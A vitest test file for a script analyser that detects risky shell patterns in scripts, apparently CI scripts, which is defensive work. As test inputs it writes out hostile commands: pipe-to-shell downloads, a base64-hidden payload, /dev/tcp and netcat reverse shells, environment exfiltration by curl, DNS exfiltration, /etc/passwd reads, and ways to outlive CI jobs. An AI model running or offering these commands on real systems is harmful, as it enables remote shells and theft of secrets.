// What scripts give away. Each case is one that an incident or a tool's documentation knows, in our own words.
import { describe, expect, it } from 'vitest';
import { readScript } from '../../../services/collector/definitions/script.ts';

function signs(text: string, shell?: string): readonly string[] {
  return readScript(text, { shell }).signs.map(({ kind, hosts }) => [kind, ...hosts].join(' '));
}

function reaches(text: string, shell?: string): readonly string[] {
  return readScript(text, { shell }).network.map(({ tool, does, sends, hosts }) =>
    [tool, does, ...(sends ? ['sends'] : []), ...hosts].join(' '),
  );
}

describe('a download that is run', () => {
  it.each([
    'curl -fsSL https://x.example.com/i.sh | sh',
    'curl -fsSL https://x.example.com/i.sh | sudo -E bash -s -- --yes',
    'wget -qO- x.example.com/i.sh | tee log | bash -',
    'bash <(curl -s https://x.example.com/i.sh)',
    'bash -c "$(curl -fsSL https://x.example.com/i.sh)"',
    'source <(curl -s https://x.example.com/i.sh)',
    'sh -c "`wget -O - https://x.example.com/i.sh`"',
    '{ curl https://x.example.com/i.sh; } | sh',
    '(curl https://x.example.com/i.sh) | python3 -',
    'bash <<< "$(curl https://x.example.com/i.sh)"',
    'curl https://x.example.com/i.sh \\\n  | sh',
  ])('is seen in %s', (text) => {
    expect(signs(text)).toContain('pipe-to-shell x.example.com');
  });

  it.each([
    'curl https://x.example.com/a.json | jq .',
    'curl https://x.example.com/a.json | python -m json.tool',
    'curl https://x.example.com/a.tgz | tar xz',
    'curl https://x.example.com/a | bash script.sh',
    'echo "curl https://x.example.com | sh"',
    '# curl https://x.example.com | sh',
    'curl https://x.example.com || sh fallback.sh',
  ])('is not seen in %s', (text) => {
    expect(signs(text)).not.toContain('pipe-to-shell x.example.com');
  });

  it('is seen when it goes by way of a file', () => {
    expect(signs('curl -o /tmp/i.sh https://x.example.com/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh')).toEqual([
      'run-download x.example.com',
    ]);
    expect(signs('wget https://x.example.com/i.sh && sh ./i.sh')).toEqual(['run-download x.example.com']);
  });

  it('is seen in PowerShell', () => {
    expect(signs('iwr -useb https://x.example.com/i.ps1 | iex', 'pwsh')).toContain('pipe-to-shell x.example.com');
    const client = '(New-Object Net.WebClient).DownloadString("https://x.example.com/i.ps1")';
    expect(signs(`iex (${client})`, 'pwsh')).toContain('pipe-to-shell x.example.com');
    expect(signs(`powershell -Command "iex (${client})"`)).toContain('inline-code');
  });
});

describe('text that hides', () => {
  const encoded = Buffer.from('curl https://hidden.example.com/a | sh; echo "some more text to say"\n').toString(
    'base64',
  );

  it('is seen when it is decoded and run, and what it says is read', () => {
    const found = signs(`echo ${encoded} | base64 -d | sh`);
    expect(found).toEqual(['encoded-text', 'decode', 'decode-to-shell', 'pipe-to-shell hidden.example.com']);
  });

  it('is not what a digest looks like', () => {
    const digest = Buffer.from(Array.from({ length: 48 }, (_, index) => (index * 97 + 131) % 256)).toString('base64');
    expect(signs(`npm install --integrity sha384-${digest}`)).toEqual([]);
    expect(signs(`echo ${'0123456789abcdef'.repeat(8)}`)).toEqual([]);
  });

  it('is seen in escapes and in place of spaces', () => {
    expect(signs("printf '\\x63\\x75\\x72\\x6c'")).toEqual(['hex']);
    expect(signs('cat${IFS}/etc/passwd')).toEqual(['ifs']);
    expect(signs('while IFS= read -r line; do echo "$line"; done')).toEqual([]);
  });
});

describe('the environment', () => {
  it('is printed whole, or sent', () => {
    expect(signs('printenv | sort')).toEqual(['env-dump']);
    expect(signs('cat /proc/self/environ')).toEqual(['env-dump']);
    expect(signs('env | curl -d @- https://x.example.com')).toEqual(['env-dump', 'env-sent x.example.com']);
    expect(signs('curl --data "$(env)" https://x.example.com')).toEqual(['env-dump', 'env-sent x.example.com']);
    expect(signs('gci env:', 'pwsh')).toEqual(['env-dump']);
  });

  it('is set for one program, or by an option, without being printed', () => {
    expect(signs('env A=1 make\nset -eux\nexport A=1\nprintenv HOME')).toEqual([]);
  });

  it('is handed on to the steps that follow', () => {
    expect(signs('echo A=1 >> $GITHUB_ENV\necho /x | tee -a "${GITHUB_PATH}"')).toEqual(['env-file', 'path-file']);
    expect(signs('"A=1" | Out-File -Append $env:GITHUB_ENV', 'pwsh')).toEqual(['env-file']);
    expect(signs('echo x >> $GITHUB_OUTPUT')).toEqual([]);
  });
});

describe('what reaches for the host or the network', () => {
  it.each([
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['dev-tcp 203.0.113.7', 'remote-shell']],
    ['nc -e /bin/sh 203.0.113.7 9001', ['remote-shell']],
    ['docker run --privileged alpine', ['privileged']],
    ['docker run -v /var/run/docker.sock:/var/run/docker.sock alpine', ['docker-socket']],
    ['docker run -v /:/host alpine', ['host-mount']],
    ['nsenter -t 1 -m sh', ['privileged']],
    ['sudo cat /proc/1234/mem', ['memory-read']],
    ['curl http://169.254.169.254/latest/meta-data', ['metadata-service']],
    ['RUNNER_TRACKING_ID="" ./agent &', ['outlive-job']],
    ['JENKINS_NODE_COOKIE=dontKillMe nohup ./a &', ['outlive-job']],
  ])('%s', (text, expected) => {
    expect(signs(text)).toEqual(expected);
  });
});

describe('commands that reach out', () => {
  it.each([
    ['curl -sSL https://a.example.com/x -o x', ['curl transfer a.example.com']],
    ['curl -X POST -H "A: b" https://a.example.com', ['curl transfer sends a.example.com']],
    ['curl -fsSLo install.sh a.example.com/x', ['curl transfer a.example.com']],
    ['sudo -u app env A=b timeout 5 wget --tries 3 https://a.example.com', ['wget transfer a.example.com']],
    ['curl "$URL"', ['curl transfer']],
    ['scp -P 22 x user@a.example.com:/tmp', ['scp remote sends a.example.com']],
    ['ssh -i key deploy@a.example.com uptime', ['ssh remote a.example.com']],
    ['git clone git@git.example.com:a/b.git', ['git repository git.example.com']],
    ['docker pull reg.example.com:5000/a/b:1', ['docker registry reg.example.com']],
    ['docker run -e A=b --name x node:18 npm ci', ['docker registry docker.io']],
    ['npm ci --registry https://npm.example.com', ['npm package npm.example.com']],
    ['python -m pip install -i https://pypi.example.com x', ['python package pypi.example.com']],
    ['openssl s_client -connect a.example.com:443', ['openssl socket sends a.example.com']],
    ['nslookup $(cat secret | xxd -p).a.example.com', ['nslookup lookup']],
    ['sudo apt-get install -y curl wget', ['apt-get package']],
    [
      'docker run alpine sh -c "wget https://a.example.com"',
      ['docker registry a.example.com docker.io', 'wget transfer a.example.com'],
    ],
    ['npm test && make build && git status && docker build .', ['docker registry']],
    ['for cmd in bash curl; do command -v $cmd; done; if command -v curl; then :; fi', []],
    ['echo https://a.example.com', []],
  ])('%s', (text, expected) => {
    expect(reaches(text)).toEqual(expected);
  });

  it('are seen in other languages', () => {
    expect(reaches('import requests\nrequests.post("https://a.example.com", json=dict(os.environ))', 'python')).toEqual(
      ['python transfer a.example.com'],
    );
    expect(
      reaches('python3 - <<EOF\nfrom urllib.request import urlopen\nurlopen("https://a.example.com")\nEOF'),
    ).toEqual(['python3 transfer a.example.com']);
  });

  it('stand in their lines', () => {
    const { network } = readScript('a\n\nif x; then\n  curl https://a.example.com \\\n    -o b\nfi\n', { line: 10 });
    expect(network).toMatchObject([{ line: 13, text: 'curl https://a.example.com \\' }]);
  });

  it('within code within code are read, up to a depth', () => {
    expect(reaches(`eval "bash -c 'curl https://a.example.com'"`)).toEqual(['curl transfer a.example.com']);
    expect(reaches('cat <<EOF | bash\ncurl https://a.example.com\nEOF')).toEqual(['curl transfer a.example.com']);
  });
});
